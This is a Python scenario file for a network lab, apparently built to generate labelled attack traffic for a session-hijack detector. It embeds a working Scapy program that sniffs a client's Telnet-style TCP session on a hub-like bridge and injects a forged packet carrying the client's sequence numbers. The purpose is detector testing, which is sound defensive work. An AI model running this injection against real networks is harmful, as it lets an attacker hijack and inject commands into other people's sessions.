"""Octets slipped into somebody's session, in the client's name."""

from lab.range import Range
from lab.scenario import Scenario

PROGRAM = """
import sys
client, server, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
done = set()
def look(packet):
    tcp = packet[TCP]
    if tcp.sport in done or not len(tcp.payload) or packet[IP].src != client:
        return
    done.add(tcp.sport)
    words = b"echo injected by somebody else\\n"
    forged = IP(src=client, dst=server, ttl=64, id=7) / TCP(
        sport=tcp.sport, dport=port, flags="PA", seq=tcp.seq + len(tcp.payload), ack=tcp.ack, window=500)
    send(forged / words)
sniff(filter=f"tcp and src host {client} and dst port {port}", prn=look, timeout=float(sys.argv[4]))
"""


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    web, pc3 = net.web(), net.inside("pc3")
    # A hub in a switch's place: the attacker sees what others say, as on a mirror port or a WLAN.
    net.bridge.run("ip", "link", "set", "inside", "type", "bridge", "ageing_time", "0")
    net.everyday()
    web.start("ncat", "-l", "-k", "-p", "23", "-e", "/bin/cat")
    net.quiet(0.5)
    pc3.start(
        "sh", "-c", f"(while n=$((n+1)); do echo command number $n; sleep 0.4; done) | ncat {web.ip} 23"
    )
    net.quiet(2)
    with net.attack(
        "session-hijack",
        by=attacker,
        victims=[web, pc3],
        attacker_known=False,
        others={"sender": [attacker.mac], "claimed": [pc3]},
        frames=f"tcp and src host {pc3.ip}",
        responses=f"tcp and host {pc3.ip} and port 23",
    ):
        net.scapy(attacker, PROGRAM, pc3.ip, web.ip, "23", "4")
    net.quiet(2)


SCENARIO = Scenario(
    name="session-hijack-injection",
    about="A program on a shared medium slips a line into a session, in the name of the client.",
    detectors=("session-hijack",),
    tools={"python3": "python3-scapy", "ncat": "ncat"},
    run=run,
)
